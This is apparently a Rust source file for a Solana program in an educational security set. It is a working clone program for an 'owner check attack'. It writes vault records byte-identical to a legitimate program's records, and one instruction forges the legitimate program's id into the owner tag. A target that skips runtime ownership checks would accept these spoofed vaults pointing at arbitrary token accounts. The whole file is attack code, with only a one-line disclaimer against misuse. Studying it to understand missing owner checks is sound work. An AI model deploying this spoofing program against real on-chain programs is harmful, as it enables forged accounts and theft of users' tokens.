//! # Pinocchio Clone Program for the Owner Check Attack
//!
//! Writes vault records byte-for-byte compatible with the owner check program.
//! Records created here are owned by this program at runtime, so only a reader
//! that checks ownership can tell them apart from the real thing.
//!
//! - `initialize_vault` tags the record with this program's id.
//! - `initialize_spoofed_vault` forges the tag with the legitimate program's id,
//!   leaving runtime ownership as the only remaining tell.
//!
//! **DO NOT USE THIS CODE FOR MALICIOUS PURPOSES.**
//! This is strictly for educational and security research purposes.

#![allow(unexpected_cfgs)]

#[cfg(not(feature = "no-entrypoint"))]
use pinocchio::entrypoint;
use pinocchio::{error::ProgramError, AccountView, Address, ProgramResult};
use solana_program_log::log;

// =============================================================================
// PROGRAM ID
// =============================================================================

/// Program ID: 6nJtok8hyuJFGAC2VYfFuoG5TjZkGdQBwhQwJcgn9T7Q
pub const ID: Address = Address::new_from_array([
    0x55, 0xe5, 0xcd, 0x8e, 0x46, 0xdc, 0x8e, 0xd4, 0xb7, 0xc2, 0x76, 0x4d, 0x2a, 0x5a, 0x4d, 0x76,
    0x77, 0x06, 0xf8, 0x5d, 0x86, 0x90, 0x02, 0x4a, 0xd6, 0xbd, 0xa3, 0x40, 0x1b, 0xe9, 0xc8, 0xcb,
]);

/// Owner check program whose records are being imitated
pub const LEGIT_PROGRAM_ID: Address = Address::new_from_array([
    0x27, 0xa0, 0xae, 0xb3, 0xfe, 0xe9, 0x23, 0x2f, 0x8a, 0xf2, 0x21, 0x1f, 0x9e, 0xe4, 0x91, 0xc5,
    0xb1, 0x0b, 0xec, 0xb5, 0x56, 0x3b, 0xfc, 0x1e, 0x6f, 0x93, 0x42, 0x7e, 0xcb, 0xc8, 0xfe, 0x29,
]);

// =============================================================================
// CONSTANTS
// =============================================================================

/// Same tag as the legitimate vault record
pub const VAULT_DISCRIMINATOR: [u8; 8] = *b"ownrvlt1";

/// Same size as the legitimate vault record: 137 bytes
pub const VAULT_SIZE: usize = 8 + 32 + 32 + 32 + 32 + 1;

/// Instruction discriminators
pub const INITIALIZE_VAULT_DISCRIMINATOR: u8 = 0;
pub const INITIALIZE_SPOOFED_VAULT_DISCRIMINATOR: u8 = 1;

/// Lays out a vault record exactly as the owner check program does.
pub fn build_vault_record(
    owner_tag: &Address,
    token_account: &Address,
    authority: &Address,
    mint: &Address,
    bump: u8,
) -> [u8; VAULT_SIZE] {
    let mut data = [0u8; VAULT_SIZE];
    data[0..8].copy_from_slice(&VAULT_DISCRIMINATOR);
    data[8..40].copy_from_slice(owner_tag.as_ref());
    data[40..72].copy_from_slice(token_account.as_ref());
    data[72..104].copy_from_slice(authority.as_ref());
    data[104..136].copy_from_slice(mint.as_ref());
    data[136] = bump;
    data
}

// =============================================================================
// ENTRYPOINT
// =============================================================================

#[cfg(not(feature = "no-entrypoint"))]
entrypoint!(process_instruction);

pub fn process_instruction(
    program_id: &Address,
    accounts: &[AccountView],
    instruction_data: &[u8],
) -> ProgramResult {
    let (discriminator, data) =
        instruction_data.split_first().ok_or(ProgramError::InvalidInstructionData)?;

    match *discriminator {
        INITIALIZE_VAULT_DISCRIMINATOR => write_vault(program_id, program_id, accounts, data),
        INITIALIZE_SPOOFED_VAULT_DISCRIMINATOR => {
            write_vault(program_id, &LEGIT_PROGRAM_ID, accounts, data)
        }
        _ => Err(ProgramError::InvalidInstructionData),
    }
}

/// Writes a look-alike record pointing at any token account the caller names.
///
/// Accounts: `[vault (w), token_account, mint, authority (s)]`
///
/// Data: optional bump byte copied into the record.
fn write_vault(
    program_id: &Address,
    owner_tag: &Address,
    accounts: &[AccountView],
    data: &[u8],
) -> ProgramResult {
    let [vault, token_account, mint, authority] = accounts else {
        return Err(ProgramError::NotEnoughAccountKeys);
    };

    if !authority.is_signer() {
        return Err(ProgramError::MissingRequiredSignature);
    }

    if !vault.owned_by(program_id) {
        return Err(ProgramError::IllegalOwner);
    }

    let bump = data.first().copied().unwrap_or(0);
    let record = build_vault_record(
        owner_tag,
        token_account.address(),
        authority.address(),
        mint.address(),
        bump,
    );

    let mut vault_data = vault.try_borrow_mut()?;
    if vault_data.len() < VAULT_SIZE {
        return Err(ProgramError::AccountDataTooSmall);
    }
    if vault_data.iter().any(|b| *b != 0) {
        return Err(ProgramError::AccountAlreadyInitialized);
    }
    vault_data[..VAULT_SIZE].copy_from_slice(&record);

    // ATTACK: the record now claims a token account this program never created
    log!("// ATTACK: Clone vault written");

    Ok(())
}
